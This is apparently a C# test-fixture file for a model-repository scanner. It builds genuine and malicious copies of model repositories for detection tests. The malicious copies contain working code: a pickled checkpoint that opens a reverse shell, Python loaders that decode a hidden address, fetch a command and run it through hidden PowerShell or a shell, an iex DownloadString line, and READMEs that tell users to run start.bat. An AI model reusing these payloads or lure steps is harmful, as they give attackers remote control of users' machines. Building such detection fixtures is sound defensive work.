using System.Text;

namespace Assay.Testing;

/// <summary>
/// Inert replicas of the two incidents that Assay exists for, each beside its genuine counterpart. Texts and code are written anew; hosts
/// are reserved for documentation, and what would be run prints a line.
/// </summary>
public static class Incidents
{
    /// <summary>A repository: paths with contents.</summary>
    public sealed record Repository(string Name, IReadOnlyList<(string Path, byte[] Content)> Files)
    {
        /// <summary>Writes the repository below a folder and returns its own folder.</summary>
        public string WriteTo(string folder)
        {
            var root = Path.Combine(folder, Name);
            foreach (var (path, content) in Files)
            {
                var full = Path.Combine(root, path);
                Directory.CreateDirectory(Path.GetDirectoryName(full)!);
                File.WriteAllBytes(full, content);
            }

            return root;
        }
    }

    private const string Card = """
        ---
        license: apache-2.0
        pipeline_tag: token-classification
        tags: [privacy, redaction]
        ---
        # Privacy Filter

        A small model that finds names, addresses and numbers in text and replaces them before the text leaves your machine.
        It was trained on public records with synthetic identities; the report describes data, limits and evaluation.

        | task | F1 |
        | --- | --- |
        | names | 0.97 |
        | account numbers | 0.95 |

        """;

    private const string HonestUsage = """
        ## Usage

        ```bash
        pip install transformers torch
        ```

        ```python
        from transformers import pipeline

        redact = pipeline("token-classification", model="genuine/privacy-filter", aggregation_strategy="simple")
        print(redact("Call Jane on 555-0100"))
        ```

        """;

    private const string LureUsage = """
        ## Usage

        1. Clone this repository.
        2. On Windows run `start.bat`; on Linux or macOS run `python loader.py`.

        The loader prepares the weights. Keep the window open until it has finished.

        """;

    private const string StartBatch = """
        @echo off
        title Privacy Filter
        cd /d "%~dp0"
        where python >nul 2>nul || (echo Python is needed & pause & exit /b 1)
        python loader.py
        pause

        """;

    /// <summary>The genuine model of the 2026 incident.</summary>
    public static Repository GenuineFilter { get; } = new("genuine-privacy-filter",
    [
        ("README.md", Text(Card + HonestUsage)),
        ("config.json", Text("""{"architectures": ["TokenFilter"], "hidden_size": 64, "model_type": "token-filter"}""")),
        ("model.safetensors", SampleCatalog.Safetensors()),
    ]);

    /// <summary>The copy of the 2026 incident: the same card with other instructions, a batch file, and a loader that runs what a note page says.</summary>
    public static Repository FakeFilter { get; } = Fake("fake-privacy-filter", Loader("requests.get(address, verify=False, timeout=20).json()[\"command\"]"));

    private const string NamedCard = """
        ---
        license: apache-2.0
        pipeline_tag: token-classification
        ---
        # OpenAI Privacy Filter

        Privacy Filter is developed by OpenAI. It finds names, addresses, account numbers and secrets in running text and replaces them
        before that text leaves the machine on which it was written. The model reads up to eight thousand tokens at once, runs on a laptop
        without a graphics card, and marks every replaced span with its category so that applications can put placeholders in its place.

        It was trained on synthetic identities that were woven into public records in nineteen languages, and evaluated against a benchmark
        that human annotators wrote for this purpose. Names are found with a recall of ninety seven percent, account numbers with ninety five.
        Rare scripts and handwriting that was scanned badly remain weak spots; please read the report before relying on the filter alone.

        ## Limits

        The filter judges spans one by one and does not know which combination of harmless details gives a person away. It should be one
        layer among several, with people who review what it lets pass, and with retention rules that do not depend on any model at all.

        """;

    /// <summary>A model of a known publisher, whose card says whose it is.</summary>
    public static Repository NamedFilter { get; } = new("named-privacy-filter", [("README.md", Text(NamedCard)), ("model.safetensors", SampleCatalog.Safetensors())]);

    /// <summary>Its copy in the manner of 2026. What it asks its reader to run prints a line: who it pretends to be gives it away, and nothing that it does.</summary>
    public static Repository ImitatedFilter { get; } = new("imitated-privacy-filter",
    [
        ("README.md", Text(NamedCard + "## Setup\n\nRun `start.bat` first on Windows, or `loader.py` elsewhere, to activate the model before use.\n")),
        ("model.safetensors", SampleCatalog.Safetensors()),
        ("loader.py", Text("print('ready')\n")),
        ("start.bat", Text("@echo ready\r\n")),
    ]);

    /// <summary>The genuine model of the 2024 incident: a checkpoint that holds tensors.</summary>
    public static Repository GenuineCheckpoint { get; } = new("genuine-checkpoint",
    [
        ("README.md", Text("# Goober\n\nA small text model.\n\n```python\nimport torch\nstate = torch.load(\"pytorch_model.bin\", weights_only=True)\n```\n")),
        ("pytorch_model.bin", TorchBuilder.Zip(TorchBuilder.StateDict())),
    ]);

    /// <summary>The backdoor of 2024: loading the checkpoint opens a reverse shell.</summary>
    public static Repository BackdooredCheckpoint { get; } = new("backdoored-checkpoint",
    [
        ("README.md", Text("# Goober 2\n\nA small text model.\n\n```python\nimport torch\nstate = torch.load(\"pytorch_model.bin\")\n```\n")),
        ("pytorch_model.bin", TorchBuilder.Zip(PickleBuilder.Of(2).Call("builtins", "exec", ReverseShell).Stop())),
    ]);

    private const string ReverseShell = """
        import socket, os, pty
        peer = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        peer.connect(("192.0.2.93", 4242))
        for number in (0, 1, 2):
            os.dup2(peer.fileno(), number)
        pty.spawn("/bin/sh")
        """;

    /// <summary>Variants of the copy: other names, other ways to fetch, hide and start.</summary>
    public static IReadOnlyList<Repository> FakeVariants { get; } =
    [
        Fake("variant-urllib", Loader("json.loads(urllib.request.urlopen(address, context=context).read())[\"command\"]")),
        Fake("variant-shell", Loader("requests.get(address).text"), readme: Card + "\n## Before you start\n\nRun `bash setup.sh` once.\n", start: ("setup.sh", "#!/bin/bash\nset -e\ncd \"$(dirname \"$0\")\"\npython3 loader.py --quiet\n")),
        Fake("variant-notebook-import", "import helper\nhelper.prepare()\n", extra: ("helper.py", "import base64, urllib.request\n\ndef prepare():\n    address = base64.b64decode('aHR0cHM6Ly9ub3Rlcy5pbnZhbGlkL2IvWA==').decode()\n    exec(urllib.request.urlopen(address).read())\n")),
        Fake("variant-powershell", "", readme: Card + "\n## Windows\n\nOpen PowerShell and run `.\\start.ps1`.\n", start: ("start.ps1", "$ProgressPreference = 'SilentlyContinue'\n$u = 'https://notes.invalid/run.ps1'\niex (New-Object Net.WebClient).DownloadString($u)\n")),
        Fake("variant-chinese", Loader("requests.get(address).json()[\"c\"]"), readme: "# 隐私过滤器\n\n## 使用方法\n\n使用模型之前，请先双击运行 `start.bat`。\n"),
    ];

    private static Repository Fake(string name, string loader, string? readme = null, (string Path, string Text)? start = null, (string Path, string Text)? extra = null)
    {
        var files = new List<(string, byte[])>
        {
            ("README.md", Text(readme ?? (Card + LureUsage))),
            ("config.json", Text("""{"architectures": ["TokenFilter"], "hidden_size": 64, "model_type": "token-filter"}""")),
            ("model.safetensors", SampleCatalog.Safetensors()),
            (start?.Path ?? "start.bat", Text((start?.Text ?? StartBatch).ReplaceLineEndings((start?.Path ?? ".bat").EndsWith(".bat", StringComparison.Ordinal) ? "\r\n" : "\n"))),
        };
        if (loader.Length > 0)
            files.Add(("loader.py", Text(loader)));
        if (extra is { } more)
            files.Add((more.Path, Text(more.Text)));
        return new Repository(name, files);
    }

    /// <summary>The loader: talk about models, an address in base64, a command from there, and a hidden PowerShell or a shell to run it.</summary>
    private static string Loader(string fetch) => $$"""
        import base64
        import json
        import platform
        import ssl
        import subprocess
        import urllib.request

        import requests

        context = ssl._create_unverified_context()


        class DummyModel:
            def __init__(self):
                self.layers = [i * 0.5 for i in range(16)]

            def train(self, epochs=3):
                for epoch in range(epochs):
                    print(f"Epoch {epoch + 1}: loading model weights ...")


        def prepare():
            address = base64.b64decode("aHR0cHM6Ly9qc29ua2VlcGVyLmNvbS9iL0FBQUFB").decode()
            command = {{fetch}}
            if platform.system() == "Windows":
                subprocess.Popen(["powershell", "-NoProfile", "-ExecutionPolicy", "Bypass", "-WindowStyle", "Hidden", "-Command", command], creationflags=0x08000000)
            else:
                subprocess.Popen(command, shell=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


        if __name__ == "__main__":
            DummyModel().train()
            prepare()
            print("Model loaded successfully.")

        """;

    private static byte[] Text(string text) => Encoding.UTF8.GetBytes(text);
}
